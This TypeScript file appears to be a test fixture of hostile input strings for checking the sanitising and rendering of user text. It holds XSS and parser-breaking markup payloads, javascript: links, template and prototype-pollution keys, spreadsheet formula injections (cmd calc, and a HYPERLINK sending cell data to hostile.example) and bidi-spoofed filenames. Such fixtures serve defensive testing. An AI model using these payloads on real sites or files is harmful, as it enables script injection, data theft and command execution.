/**
 * Texts that would act in a page that took them for more than texts, or would break it. What they would run is `hostile()`, what they
 * would load is of `hostile.example`, and each element that they would add has the attribute `hostile`.
 */
const MARKUP = [
  "<script hostile>hostile()</script>",
  "</script><script hostile>hostile()</script>",
  `"><script hostile src=//hostile.example/a.js></script>`,
  "<img hostile src=x onerror=hostile()>",
  `'"><img hostile src=https://hostile.example/b onload=hostile()>`,
  "<svg hostile onload=hostile()>",
  "<svg hostile><animate onbegin=hostile() attributeName=x dur=1s>",
  "<details hostile open ontoggle=hostile()>",
  "<input hostile autofocus onfocus=hostile()>",
  `<a hostile href="javascript:hostile()">a</a>`,
  `<iframe hostile src="javascript:parent.hostile()">`,
  `<iframe hostile srcdoc="<script>parent.hostile()</script>">`,
  `<object hostile data="data:text/html,<script>parent.hostile()</script>">`,
  "<base hostile href=//hostile.example/>",
  `<meta hostile http-equiv=refresh content="0;url=//hostile.example">`,
  "<link hostile rel=stylesheet href=//hostile.example/c.css>",
  "<style hostile>*{background:url(//hostile.example/d)}</style>",
  "<form hostile action=//hostile.example><button>Sign in",
  "<!--><img hostile src=x onerror=hostile()>-->",
  "<![CDATA[><img hostile src=x onerror=hostile()>]]>",
  "&lt;img hostile src=x onerror=hostile()&gt;",
];

/** What a parser reads otherwise the second time, or in another element. */
const BREAKERS = [
  "</textarea></title></style></template></noscript><img hostile src=x onerror=hostile()>",
  `<noscript><p title="</noscript><img hostile src=x onerror=hostile()>">`,
  "<template><img hostile src=x onerror=hostile()></template>",
  `<math><mtext><table><mglyph><style><!--</style><img hostile title="--&gt;&lt;img src=1 onerror=hostile()&gt;">`,
  "<form><math><mtext></form><form><mglyph><style></math><img hostile src onerror=hostile()>",
  `<svg></p><style><a id="</style><img hostile src=x onerror=hostile()>">`,
];

const ATTRIBUTES = [
  `" autofocus onfocus="hostile()" hostile="`,
  `' onmouseover='hostile()' hostile='`,
  "` onerror=hostile() hostile",
  `x" style="position:fixed;inset:0;background:url(//hostile.example/e)" hostile="`,
  "red;background:url(//hostile.example/f)",
  "}*{display:none}",
];

/** What is harmful where a text becomes the target of a link. */
const LINKS = [
  "javascript:hostile()",
  "JaVaScRiPt:hostile()//https://shop.example",
  "java\tscript:hostile()",
  "data:text/html,<script hostile>hostile()</script>",
  "vbscript:hostile()",
  "https://shop.example@hostile.example/",
  "[Our shop](javascript:hostile())",
  `https://shop.example/"onmouseover="hostile()"hostile="`,
];

/** What is harmful where a text is a template, a key of an object, or a word of a language. */
const CODE = [
  "{{constructor.constructor('hostile()')()}}",
  "<%= hostile() %>#{hostile()}",
  "{count}",
  "{name} {count, plural, one {# chat} other {# chats}}",
  "$& $1 $` $' %s %n %x",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "[object Object]",
  "undefined",
  "NaN",
];

/** What a spreadsheet takes for a formula. */
const FORMULAS = [
  `=HYPERLINK("https://hostile.example?"&A1,"Open")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  `Fine";=HYPERLINK("https://hostile.example")`,
];

const SCRIPTS = [
  "İstanbul'da ığdır IĞDIR şçöü",
  "مرحبا <b hostile>١٢٣</b> (abc)",
  "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
  "Z̷̢̛̫͖͓̦͉̟͑̈́̊̐̈́̃͜ą̴̡̛̥̪͉͍̱̏̀̅̈́͝͝l̵̡̛̲̝͖̙̘̀̈́̊̏̂͠g̶̢̧̛̘̼̱̮̈́̎̈́͑̕͠o̴̢̨̤̱͉͇̽̀̆̑̕͝",
  "one\u2028two\u2029three",
];

/** What turns the direction of all that follows, unless it is kept apart. */
export const TURNING = [
  "invoice\u202Egnp.exe",
  "\u2067\u202Dturned \u202E\u2066again",
  "end of \u2069it\u202Ell",
];

/** What has no place to break at. */
export const UNBROKEN = ["W".repeat(90), `https://shop.example/${"a".repeat(300)}`, "ﷺ".repeat(40)];

/** All of them, each once. */
export const HOSTILE: readonly string[] = [
  ...MARKUP,
  ...BREAKERS,
  ...ATTRIBUTES,
  ...LINKS,
  ...CODE,
  ...FORMULAS,
  ...SCRIPTS,
  ...TURNING,
  ...UNBROKEN,
];

/** Those that are as short. */
export const hostileTo = (length: number) => HOSTILE.filter((text) => [...text].length <= length);

/** Those that the server takes as names of people and tokens: with nothing that nobody can see (docs/staff.md#names). */
export const HOSTILE_NAMES = hostileTo(100).filter(
  (text) => /[\p{L}\p{N}]/u.test(text) && !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(text),
);
